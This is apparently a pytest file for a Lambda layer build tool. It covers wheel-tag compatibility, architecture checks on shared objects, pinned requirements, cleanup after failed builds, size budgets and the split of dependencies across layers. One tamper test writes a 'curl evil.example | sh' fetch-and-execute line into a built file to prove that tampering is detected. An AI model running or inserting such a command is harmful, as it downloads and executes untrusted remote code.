"""The layer builder (``infra.build_layer``) without the network: the tags the runtime loads, the architecture of
shared objects, every pin present, and a failed build leaving nothing behind (issue 32: pip was asked for
``manylinux2014_aarch64`` only, which cp314 matplotlib and numpy do not publish, and a failed build left an empty
``build/layer/python`` that was then deployed)."""

from __future__ import annotations

import re
import struct
from pathlib import Path
from unittest import mock

import pytest

from infra import build_layer
from infra.build_layer import LayerBuildError, build, foreign_objects, pinned, tag_loads, verify
from tests.layer_builds import stand_in_build, stand_in_pip


@pytest.mark.parametrize(
    "tag",
    [
        "cp314-cp314-manylinux_2_28_aarch64",  # matplotlib, numpy, pillow for cp314: what manylinux2014 alone missed
        "cp314-cp314-manylinux_2_27_aarch64",
        "cp314-cp314-manylinux_2_34_aarch64",  # the runtime's own glibc
        "cp314-cp314-manylinux2014_aarch64",
        "cp310-abi3-manylinux_2_17_aarch64",
        "py3-none-any",
        "py2.py3-none-any",
    ],
)
def test_tags_the_runtime_loads(tag: str) -> None:
    assert tag_loads(tag)


@pytest.mark.parametrize(
    "tag",
    [
        "cp314-cp314-manylinux_2_35_aarch64",  # newer glibc than Amazon Linux 2023's 2.34
        "cp314-cp314-manylinux_2_28_x86_64",
        "cp313-cp313-manylinux_2_28_aarch64",
        "cp314-cp314t-manylinux_2_28_aarch64",  # free-threaded build
        "cp314-cp314-musllinux_1_2_aarch64",
        "cp315-abi3-manylinux_2_17_aarch64",
        "py2-none-any",
    ],
)
def test_tags_the_runtime_cannot_load(tag: str) -> None:
    assert not tag_loads(tag)


def test_the_platforms_cover_every_glibc_the_runtime_has() -> None:
    assert "manylinux_2_28_aarch64" in build_layer.PLATFORMS and "manylinux_2_34_aarch64" in build_layer.PLATFORMS
    assert not any("x86_64" in p or "2_35" in p for p in build_layer.PLATFORMS)


def _elf(path: Path, machine: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"\x7fELF" + b"\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HH", 3, machine) + b"\x00" * 40)


def _distribution(site: Path, name: str, version: str, tag: str) -> None:
    info = site / f"{name}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "WHEEL").write_text(f"Wheel-Version: 1.0\nTag: {tag}\n")


def test_a_shared_object_for_another_architecture_is_found(tmp_path: Path) -> None:
    _elf(tmp_path / "numpy" / "_core" / "_multiarray_umath.cpython-314-aarch64-linux-gnu.so", 183)
    _elf(tmp_path / "numpy" / "_core" / "_simd.cpython-314-x86_64-linux-gnu.so", 62)
    assert foreign_objects(tmp_path) == ["numpy/_core/_simd.cpython-314-x86_64-linux-gnu.so"]


def test_verify_wants_every_pin_at_its_version_and_loadable_tags(tmp_path: Path) -> None:
    with pytest.raises(LayerBuildError, match="build is empty"):
        verify(tmp_path, {"pydantic": "2.14.4"})
    _distribution(tmp_path, "pydantic", "2.14.3", "py3-none-any")
    with pytest.raises(LayerBuildError, match=re.escape("pydantic is 2.14.3 in the layer, pinned 2.14.4")):
        verify(tmp_path, {"pydantic": "2.14.4"})
    with pytest.raises(LayerBuildError, match=re.escape("pyyaml==6.0.3 is missing")):
        verify(tmp_path, {"pyyaml": "6.0.3"})
    _distribution(tmp_path, "numpy", "2.3.5", "cp314-cp314-manylinux_2_28_x86_64")
    with pytest.raises(LayerBuildError, match=re.escape("numpy 2.3.5: wheel tags")):
        verify(tmp_path, {"pydantic": "2.14.3"})


def test_unpinned_requirements_are_refused(tmp_path: Path) -> None:
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("aws-lambda-powertools[tracer]==3.37.0  # extras kept\nPyYAML>=6\n")
    with pytest.raises(LayerBuildError, match=re.escape("requirements.txt:2: 'PyYAML>=6' is not pinned")):
        pinned(requirements)


def test_the_shipped_requirements_are_all_pinned() -> None:
    assert set(pinned(build_layer.REQUIREMENTS)) >= {"aws_lambda_powertools", "pydantic", "pyyaml", "slack_sdk"}


def test_a_failed_build_leaves_neither_layer_nor_manifest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A previous good build is removed too: nothing stale can be synthesized after a failure."""
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("pydantic==2.14.4\n")
    out, manifest = tmp_path / "build" / "layer", tmp_path / "build" / "layer-manifest.json"
    (out / "python" / "pydantic").mkdir(parents=True)
    manifest.write_text("{}")

    def no_wheels(site: Path, requirements: Path) -> None:
        (site / "half_installed").mkdir()
        raise LayerBuildError("pip found no wheels for the runtime: ERROR: No matching distribution")

    monkeypatch.setattr(build_layer, "_pip", no_wheels)
    with pytest.raises(LayerBuildError, match="No matching distribution"):
        build(requirements, out, manifest)
    assert not out.exists() and not manifest.exists() and not out.with_name("layer.partial").exists()

    def nothing_installed(site: Path, requirements: Path) -> None:
        return None

    monkeypatch.setattr(build_layer, "_pip", nothing_installed)
    with pytest.raises(LayerBuildError, match="build is empty"):
        build(requirements, out, manifest)
    assert not out.exists() and not manifest.exists()


def test_a_verified_build_writes_its_manifest(tmp_path: Path) -> None:
    from infra.dependencies import shipped_plan

    requirements = tmp_path / "requirements.txt"
    requirements.write_text(build_layer.REQUIREMENTS.read_text())
    record = stand_in_build(tmp_path / "build", requirements)
    out, manifest = tmp_path / "build" / "layer", tmp_path / "build" / "layer-manifest.json"
    assert build_layer.current(requirements, out, manifest)
    assert not list(out.rglob("__pycache__")) and manifest.is_file()
    assert set(record["layers"]) == {layer.name for layer in shipped_plan().layers}  # type: ignore[call-overload]
    requirements.write_text(requirements.read_text().replace("pydantic==2.14.4", "pydantic==2.14.5"))
    assert not build_layer.current(requirements, out, manifest)  # another requirements file: rebuilt


def test_the_runtime_s_own_sdk_and_the_build_machine_s_scripts_are_left_out(tmp_path: Path) -> None:
    """botocore (aws-xray-sdk's requirement) would shadow the runtime's boto3's; console scripts name the build
    machine's interpreter."""

    def with_botocore(site: Path, requirements: Path) -> None:
        stand_in_pip(site, requirements)
        _distribution(site, "botocore", "1.44.8", "py3-none-any")
        (site / "bin").mkdir()
        (site / "bin" / "jp.py").write_text("#!/work/.venv/bin/python\n")

    with mock.patch.object(build_layer, "_pip", with_botocore):
        record = build(build_layer.REQUIREMENTS, tmp_path / "layer", tmp_path / "layer-manifest.json")
    assert record["removed"] == ["botocore-1.44.8.dist-info", "bin/"]
    assert not [p for p in (tmp_path / "layer").rglob("*") if "botocore" in p.name or p.name == "bin"]


@pytest.mark.parametrize("tamper", ["changed", "added"])
def test_a_file_changed_or_added_in_the_build_after_it_was_built_is_not_current(tmp_path: Path, tamper: str) -> None:
    """``make layer`` keeps a current build and the synth deploys it: a file edited or dropped into ``build/layer``
    after the build must make it stale (rebuilt, or refused), not ship."""
    stand_in_build(tmp_path / "build")
    out, manifest = tmp_path / "build" / "layer", tmp_path / "build" / "layer-manifest.json"
    assert build_layer.current(build_layer.REQUIREMENTS, out, manifest)
    built = sorted(p for p in out.rglob("*.py") if p.is_file())
    if tamper == "changed":
        built[0].write_text(built[0].read_text() + "import os; os.system('curl evil.example | sh')\n")
    else:
        (built[0].parent / "sitecustomize.py").write_text("print('not built by make layer')\n")
    assert not build_layer.current(build_layer.REQUIREMENTS, out, manifest)


def test_a_spot_function_over_its_budget_is_not_synthesized(tmp_path: Path) -> None:
    """The Spot function's cold start is spent inside a two-minute warning: its code and layers stay within 40 MB, or
    the synth stops naming it (a base-layer requirement that grew fails here, not in an interruption)."""
    from infra.app_builder import build_app
    from infra.settings import SettingsError

    def heavy_base(site: Path, requirements: Path) -> None:
        stand_in_pip(site, requirements)
        with (site / "pydantic" / "weights.bin").open("wb") as handle:
            handle.truncate(40 * 1_048_576)  # sparse: no real disk used
        record = next(site.glob("pydantic-*.dist-info")) / "RECORD"
        record.write_text(record.read_text() + "pydantic/weights.bin,,\n")

    with mock.patch.object(build_layer, "_pip", heavy_base):
        build(build_layer.REQUIREMENTS, tmp_path / "layer", tmp_path / "layer-manifest.json")
    with pytest.raises(SettingsError) as raised:
        build_app(context={"layer_build": str(tmp_path)}, deployable=True)
    assert "the spot function's code and layers are" in str(raised.value) and "budget of 40.0 MB" in str(raised.value)


def test_the_demo_shows_each_function_s_size_as_the_build_measured_it(tmp_path: Path) -> None:
    """``governor demo``'s stack line: code plus layers per function, from the current build, never typed."""
    from governor_cli.commands.demo import sizes_text
    from infra.dependencies import shipped_plan

    out, manifest = tmp_path / "build" / "layer", tmp_path / "build" / "layer-manifest.json"
    assert sizes_text(out, manifest) == "function sizes: run make layer (no current build to measure)"
    stand_in_build(tmp_path / "build")
    shown = sizes_text(out, manifest)
    assert shown.startswith("code + layers unzipped: idle ") and ", spot " in shown and shown.endswith(" MB")
    assert shown.count(" MB") == len(shipped_plan().functions)


def _wheel(site: Path, name: str, requires: tuple[str, ...] = ()) -> None:
    """A distribution installed as pip --target leaves it: its package and dist-info listed in RECORD."""
    package = name.replace("-", "_")
    (site / package).mkdir(parents=True)
    (site / package / "__init__.py").write_text("")
    info = site / f"{package}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Name: {name}\nVersion: 1.0\n" + "".join(f"Requires-Dist: {r}\n" for r in requires))
    (info / "RECORD").write_text(f"{package}/__init__.py,,\n{info.name}/METADATA,,\n{info.name}/RECORD,,\n")


def test_the_install_is_split_by_who_needs_each_distribution_on_the_runtime(tmp_path: Path) -> None:
    """A dependency every function needs goes to base, one only the report needs to the report's layer; markers are
    the runtime's (Linux aarch64, CPython 3.14), the runtime's own botocore ends the walk, and what no function needs
    is not shipped."""
    from packaging.requirements import Requirement

    from infra.dependencies import Layer, LayerPlan
    from infra.layer_split import SplitError, split

    site = tmp_path / "site"
    _wheel(site, "pydantic", ("typing-extensions>=4", "colorama; sys_platform == 'win32'"))
    _wheel(site, "matplotlib", ("numpy", "typing-extensions", "pyobjc; platform_system == 'Darwin'"))
    _wheel(site, "aws-xray-sdk", ("botocore>=1.11",))
    _wheel(site, "numpy")
    _wheel(site, "typing-extensions")
    _wheel(site, "urllib3")  # botocore's: the runtime brings it
    plan = LayerPlan(
        layers=(
            Layer("base", ("aws-xray-sdk", "pydantic"), ("report", "spot")),
            Layer("matplotlib", ("matplotlib",), ("report",)),
        ),
        functions={"report": ("base", "matplotlib"), "spot": ("base",)},
    )
    lines = {name: Requirement(name) for name in ("aws-xray-sdk", "pydantic", "matplotlib")}
    held = split(site, tmp_path / "out", plan, lines)
    assert held == {
        "base": ["aws-xray-sdk", "pydantic", "typing-extensions"],
        "matplotlib": ["matplotlib", "numpy"],
        "": ["urllib3"],
    }
    assert (tmp_path / "out" / "matplotlib" / "python" / "numpy" / "__init__.py").is_file()
    assert not site.exists() and not list((tmp_path / "out").rglob("urllib3*"))

    site.mkdir()
    _wheel(site, "pydantic")
    _wheel(site, "aws-xray-sdk")
    _wheel(site, "matplotlib")
    (site / "stray.py").write_text("import os\n")  # owned by no distribution's RECORD
    with pytest.raises(SplitError, match=r"stray\.py .* belongs to no installed distribution's RECORD"):
        split(site, tmp_path / "again", plan, lines)
